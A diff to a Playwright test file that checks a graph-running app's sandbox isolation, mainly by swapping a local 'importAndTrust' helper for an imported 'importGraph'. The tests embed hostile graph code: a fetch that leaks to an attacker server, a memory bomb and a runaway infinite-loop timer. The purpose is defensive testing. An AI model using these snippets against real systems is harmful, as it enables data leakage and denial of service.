@@ -1,6 +1,7 @@
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { expect, test, type Page } from '@playwright/test'
+import { importGraph } from './graphFiles'
 
 /**
  * Hostile graphs against the built app: each imported graph tries to reach another graph's
@@ -45,17 +46,6 @@ function graph(name: string, code: string) {
     nodes: [{ id: 'evil', code }],
     edges: [{ from: '__start__', to: 'evil' }],
   }
-}
-
-async function importAndTrust(page: Page, doc: { name: string }): Promise<void> {
-  await page.getByLabel('Import a graph file').setInputFiles({
-    name: `${doc.name}.json`,
-    mimeType: 'application/json',
-    buffer: Buffer.from(JSON.stringify(doc)),
-  })
-  await expect(page.getByRole('heading', { level: 1, name: doc.name })).toBeVisible()
-  await page.getByRole('button', { name: 'Trust and allow running' }).click()
-  await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled()
 }
 
 async function run(page: Page, expected: string): Promise<void> {
@@ -110,7 +100,7 @@ test("a graph that hijacks its sandbox's port cannot see or forge another graph'
     setInterval(() => { try { fetch('${attacker}/leak').catch(() => {}) } catch {} }, 20)
     return { x: 1 }
   }`
-  await importAndTrust(page, graph('port thief', code))
+  await importGraph(page, graph('port thief', code))
   await run(page, 'done')
   await expect.poll(() => runCounter(page)).toEqual(honest)
   // The forged values are nowhere, not even after a reload.
@@ -129,7 +119,7 @@ test('code evaluated with Network off never runs where the network is allowed', 
     'online',
     `async (s) => ({ log: [await (await fetch('${attacker}/b')).text()] })`,
   )
-  await importAndTrust(page, online)
+  await importGraph(page, online)
   await page.getByLabel('Allow network').check()
   await run(page, 'done')
   expect(hits).toEqual(['/b'])
@@ -145,7 +135,7 @@ test('code evaluated with Network off never runs where the network is allowed', 
       }
     })()`,
   )
-  await importAndTrust(page, offline)
+  await importGraph(page, offline)
   await run(page, 'done')
   // Back to B: it runs again in a fresh networked sandbox, where nothing of A lives.
   await openGraph(page, 'online')
@@ -159,7 +149,7 @@ test('code evaluated with Network off never runs where the network is allowed', 
 
 test('a memory bomb fails its node, not the tab; other graphs still run', async ({ page }) => {
   const code = '(s) => { const a = []; for (;;) a.push(new Array(1 << 24).fill(1.5)) }'
-  await importAndTrust(page, graph('bomb', code))
+  await importGraph(page, graph('bomb', code))
   await run(page, 'failed')
   const error = page.getByLabel('Run error')
   await expect(error).toContainText('evil')
@@ -171,7 +161,7 @@ test('a memory bomb fails its node, not the tab; other graphs still run', async 
 
 test('a runaway timer left by one graph is not blamed on the next', async ({ page }) => {
   const code = '(s) => { setTimeout(() => { while (true) {} }, 0); return { x: 1 } }'
-  await importAndTrust(page, graph('spinner', code))
+  await importGraph(page, graph('spinner', code))
   await run(page, 'done')
   // At once, the innocent counter compiles and runs; its Run is never left disabled.
   await expect.poll(() => runCounter(page)).toEqual(honest)
